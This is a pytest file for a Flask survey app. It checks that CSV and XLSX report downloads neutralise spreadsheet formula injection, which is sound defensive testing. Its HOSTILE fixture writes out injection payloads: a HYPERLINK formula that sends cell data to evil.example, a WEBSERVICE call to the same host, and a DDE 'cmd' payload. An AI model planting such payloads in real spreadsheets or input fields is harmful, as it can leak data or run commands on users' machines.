"""No download runs a formula: text that a person typed (a round's name, an agency's or a
locality's name, a comment, a workshop action) reaches a spreadsheet as text.

The real CSV and XLSX downloads are read back, the XLSX with openpyxl, as a spreadsheet
would read them."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from surveys.database import db
from surveys.library import current_questionnaire
from surveys.responses.answers import CompletedResponse
from surveys.responses.models import Channel
from surveys.responses.service import record_submissions
from surveys.rounds.models import Round
from surveys.spreadsheets import FORMULA_STARTS, safe_cell, safe_xlsx_cell
from surveys.workshops import service
from surveys.workshops.models import WorkshopSession
from tests.helpers import RoundRef, WorkshopRef, publish

# Each of these is run by Excel, LibreOffice or Google Sheets when a cell starts with it.
HOSTILE = {
    "round": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "locality": "+1+1",
    "second locality": "-2+3",
    "comment": "=1+1 said the comment",
    "action": '\t=WEBSERVICE("http://evil.example")',
    "second action": "\r=1+2",
    "workshop": "-10+20",
}


def looks_like_a_formula(value: str) -> bool:
    """A CSV cell a spreadsheet would run: starting with a formula character and not a plain
    number (a negative number is a number, and must stay one)."""
    if not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def csv_cells(body: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))):
        yield from row


def xlsx_cells(data: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.fixture
def hostile_round(app: Flask, make_round: Callable[..., RoundRef]) -> RoundRef:
    """A round whose name, an agency's name and its localities' names are formulas, with
    enough responses (and a hostile comment) to publish figures by agency and locality."""
    round_ = make_round("hostile", agencies=["police", "health"], localities=("North", "South"))
    with app.app_context():
        live = db.session.scalar(select(Round).where(Round.slug == "hostile"))
        assert live is not None
        live.name = HOSTILE["round"]
        live.agencies[0].name = HOSTILE["agency"]
        live.localities[0].name = HOSTILE["locality"]
        live.localities[1].name = HOSTILE["second locality"]
        q = current_questionnaire()
        people = [
            CompletedResponse(
                agency_id=agency,
                level_id=level,
                locality_id=("north", "south")[n % 2],
                items={item.id: score for item in q.items},
                comments={"trust": HOSTILE["comment"]},
            )
            for agency, level, score in (
                ("police", "strategic", 5),
                ("police", "frontline", 1),
                ("health", "operational", 4),
                ("health", "frontline", 2),
            )
            for n in range(6)
        ]
        record_submissions(live, q, people, Channel.IMPORT, date.today())
        db.session.commit()
    publish(app, "hostile")
    return round_


def test_analysis_csv_and_xlsx_hold_no_formula_and_keep_negative_numbers(
    manager: FlaskClient, hostile_round: RoundRef
) -> None:
    body = manager.get("/reports/hostile/analysis.csv").get_data(as_text=True)
    cells = list(csv_cells(body))
    assert [c for c in cells if looks_like_a_formula(c)] == []
    # Negative figures (management warmer than frontline: negative gaps) are still numbers.
    assert any(c.startswith("-") and float(c) < 0 for c in cells if c[:1] == "-")
    for hostile in HOSTILE.values():
        assert hostile not in cells  # never as it was typed

    workbook = list(xlsx_cells(manager.get("/reports/hostile/analysis.xlsx").data))
    assert [c.coordinate for c in workbook if c.data_type == "f"] == []
    texts = [c.value for c in workbook if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_STARTS)] == []
    # The round, the agency and both localities are in the workbook, as text.
    for what in ("round", "agency", "locality", "second locality"):
        assert "'" + HOSTILE[what] in texts, what
    numbers = [c.value for c in workbook if c.data_type == "n" and c.value is not None]
    assert any(n < 0 for n in numbers)  # negative numbers stayed numbers


def test_comments_reach_no_spreadsheet_at_all(
    manager: FlaskClient, hostile_round: RoundRef
) -> None:
    """No export carries comments (they are read on the feature pages, escaped): the comment
    typed as a formula is in no cell of either download, neutralised or not."""
    page = manager.get("/reports/hostile/features/trust").get_data(as_text=True)
    assert "=1+1 said the comment" in page  # published, and shown as text on the page
    body = manager.get("/reports/hostile/analysis.csv").get_data(as_text=True)
    assert "said the comment" not in body
    texts = [str(c.value) for c in xlsx_cells(manager.get("/reports/hostile/analysis.xlsx").data)]
    assert not any("said the comment" in t for t in texts)


@pytest.fixture
def facilitator(
    client: FlaskClient, make_user: Callable[..., str], sign_in: Callable[[str], None]
) -> FlaskClient:
    sign_in(make_user("facilitator"))
    return client


def test_workshop_actions_csv_holds_no_formula(
    app: Flask, facilitator: FlaskClient, make_workshop: Callable[..., WorkshopRef]
) -> None:
    workshop = make_workshop(title=HOSTILE["workshop"])
    actions = [HOSTILE["action"], HOSTILE["second action"], "+SUM(A1:A9)", "@cmd", "-1"]
    with app.app_context():
        live = db.session.get(WorkshopSession, workshop.id)
        assert live is not None
        for text in actions:
            service.add_action(live, text, None, None, None)
    body = facilitator.get(f"{workshop.console}/actions.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
    written = [row[2] for row in rows[1:]]
    assert len(written) == len(actions)
    for row in rows[1:]:
        assert row[0] == "'" + HOSTILE["workshop"]
    for cell in (c for row in rows for c in row):
        assert not cell.startswith(FORMULA_STARTS), cell
    # Tabs and carriage returns at the start: the service trims what is typed, so they may
    # not arrive; whatever arrives is not a formula.
    assert "'+SUM(A1:A9)" in written and "'@cmd" in written and "'-1" in written


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (-3, -3),
        (-0.5, -0.5),
        (None, None),
        (True, True),
    ],
)
def test_one_rule_for_every_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def test_xlsx_cells_lose_characters_a_workbook_cannot_hold_before_the_check() -> None:
    assert safe_xlsx_cell("\x01=1+1") == "'=1+1"
    assert safe_xlsx_cell("a\x0bb") == "ab"


def test_a_round_name_with_control_characters_still_downloads(
    app: Flask, manager: FlaskClient, make_round: Callable[..., RoundRef]
) -> None:
    """openpyxl refuses a whole workbook for one vertical tab: such a name once gave a 500."""
    make_round("spring", agencies=["police", "health"])
    with app.app_context():
        live = db.session.scalar(select(Round).where(Round.slug == "spring"))
        assert live is not None
        live.name = "Spring\x0b=2+2"
        q = current_questionnaire()
        people = [
            CompletedResponse(
                agency_id="police", level_id="frontline", items={i.id: 3 for i in q.items}
            )
            for _ in range(6)
        ]
        record_submissions(live, q, people, Channel.IMPORT, date.today())
        db.session.commit()
    publish(app, "spring")
    response = manager.get("/reports/spring/analysis.xlsx")
    assert response.status_code == 200
    cells = list(xlsx_cells(response.data))
    assert [c for c in cells if c.data_type == "f"] == []
    assert "Spring=2+2" in [c.value for c in cells]
